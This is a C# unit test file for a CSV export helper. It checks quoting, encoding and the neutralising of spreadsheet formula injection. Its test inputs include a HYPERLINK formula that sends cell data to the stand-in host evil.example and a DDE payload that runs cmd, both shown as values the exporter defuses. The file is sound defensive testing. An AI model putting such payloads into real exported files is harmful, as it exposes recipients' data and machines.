using System.Text;
using Outbound.Core.Exports;

namespace Outbound.Core.Tests.Exports;

public sealed class SpreadsheetCsvTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData(" padded", "\" padded\"")]
    [InlineData("张三,138", "\"张三,138\"")]
    public void Text_is_quoted_only_when_needed(string value, string expected) => Assert.Equal(expected, SpreadsheetCsv.Cell(value));

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A2;\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2;\"\"click\"\")\"")]
    [InlineData("+8613812345678", "'+8613812345678")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void Text_that_a_spreadsheet_would_run_as_a_formula_is_defused(string value, string expected) =>
        Assert.Equal(expected, SpreadsheetCsv.Cell(value));

    [Fact]
    public void Numbers_made_from_values_stay_numbers_even_when_negative()
    {
        Assert.Equal("-12.50", SpreadsheetCsv.Cell(CsvCell.Number(-12.5m, "0.00")));
        Assert.Equal("-3", SpreadsheetCsv.Cell(CsvCell.Number(-3)));
        Assert.Equal("'-3", SpreadsheetCsv.Cell("-3"));
    }

    [Fact]
    public async Task A_file_is_utf8_with_a_byte_order_mark_and_crlf_rows()
    {
        using var stream = new MemoryStream();
        await using (var csv = new SpreadsheetCsv(stream))
        {
            await csv.WriteRowAsync("姓名", "金额");
            await csv.WriteRowAsync("=张三", CsvCell.Number(-1m, "0.00"));
        }
        var bytes = stream.ToArray();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Equal("姓名,金额\r\n'=张三,-1.00\r\n", Encoding.UTF8.GetString(bytes[3..]));
    }
}
